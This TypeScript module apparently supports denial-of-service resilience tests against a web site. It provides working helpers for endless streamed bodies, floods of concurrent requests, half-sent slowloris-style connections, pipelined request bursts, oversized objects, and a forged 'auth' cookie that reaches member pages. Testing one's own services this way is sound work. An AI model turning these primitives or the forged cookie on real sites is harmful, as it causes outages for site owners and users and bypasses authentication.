import { connect } from 'node:net'

/** Bytes. */
export const megabyte = 1024 * 1024

/** Bytes of an answer's body as it was sent. */
const sizeOf = async (response: Response): Promise<number> => {
  const { byteLength } = await response.arrayBuffer()
  return Number(response.headers.get('content-length') ?? byteLength)
}

/** Letters that no earlier attack has sent. */
export const random = () => Math.random().toString(36).slice(2)

/** A body that is sent in pieces, without its length. */
export const endless = (piece: string, bytes: number): ReadableStream<Uint8Array> => {
  const chunk = new TextEncoder().encode(piece.repeat(Math.ceil(65_536 / piece.length)))
  let sent = 0
  return new ReadableStream({
    pull: (controller) => {
      sent += chunk.byteLength
      controller.enqueue(chunk)
      if (sent >= bytes) controller.close()
    },
  })
}

/** Sends a body. Returns the bytes of the answer. */
export const post =
  (path: string, type: string, body: () => BodyInit, headers: Readonly<Record<string, string>> = {}) =>
  async (site: string): Promise<number> => {
    const response = await fetch(`${site}${path}`, {
      method: 'POST',
      headers: { 'content-type': type, origin: site, ...headers },
      body: body(),
      duplex: 'half',
      signal: AbortSignal.timeout(20_000),
      redirect: 'manual',
    } as RequestInit)
    return sizeOf(response)
  }

/** Requests an address. Returns the bytes of the answer. */
export const get =
  (path: () => string, headers: () => Readonly<Record<string, string>> = () => ({})) =>
  async (site: string): Promise<number> => {
    const response = await fetch(`${site}${path()}`, {
      headers: headers(),
      redirect: 'manual',
      signal: AbortSignal.timeout(20_000),
    })
    return sizeOf(response)
  }

/** Requests of one machine at a time: more would only measure the sender. */
export const atATime = 200

/** Sends many requests, some of them at a time. Returns the bytes of the largest answer. */
export const many =
  (count: number, send: (site: string, index: number) => Promise<number | undefined>, most = count) =>
  async (site: string): Promise<number | undefined> => {
    const sizes: number[] = []
    let next = 0
    const sendNext = async (): Promise<void> => {
      for (let index = next++; index < count; index = next++) {
        const size = await send(site, index).catch(() => undefined)
        if (size !== undefined) sizes.push(size)
      }
    }
    await Promise.all(Array.from({ length: most }, sendNext))
    return sizes.length > 0 ? Math.max(...sizes) : undefined
  }

/** Opens a connection, sends the beginning of a request, and stops. */
export const halfSent =
  (text: string) =>
  (site: string): Promise<undefined> =>
    new Promise((resolve) => {
      const { hostname, port } = new URL(site)
      const socket = connect(Number(port), hostname, () =>
        socket.write(text, () => setTimeout(() => resolve(void socket.destroy()), 50)),
      )
      socket.once('error', () => resolve(undefined))
    })

/** Sends a text on one connection as fast as the site reads it. Then leaves, or waits a while without reading the answers. */
export const onOneConnection =
  (text: () => string | Buffer, { leaves = false, reads = true } = {}) =>
  (site: string): Promise<undefined> =>
    new Promise((resolve) => {
      const { hostname, port } = new URL(site)
      const socket = connect(Number(port), hostname, () =>
        socket.write(text(), () => leaves && setTimeout(() => socket.destroy(), 10)),
      )
      if (reads) socket.resume()
      else socket.pause()
      setTimeout(() => socket.destroy(), 2000)
      socket.once('error', () => undefined).once('close', () => resolve(undefined))
    })

/** A cookie that anybody can make up. For such a cookie the server renders pages of the member area, without data. */
const memberCookie = `auth=${encodeURIComponent(JSON.stringify({ id: 1, nama_lengkap: 'Siti', email: null, no_telp: null, gender: 'P' }))}`

/** A request without a body, as the raw text. */
export const request = (path: string) =>
  `GET ${path} HTTP/1.1\r\nHost: x\r\nCookie: ${memberCookie}\r\nAccept-Encoding: identity\r\n\r\n`

/** As many requests as the site lets wait on one connection. */
export const pipelined = (path: () => string) => () => Array.from({ length: 60 }, () => request(path())).join('')

/** An object with `count` members, whose names are numbers. */
export const numbered = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, index) => [index, 0]))
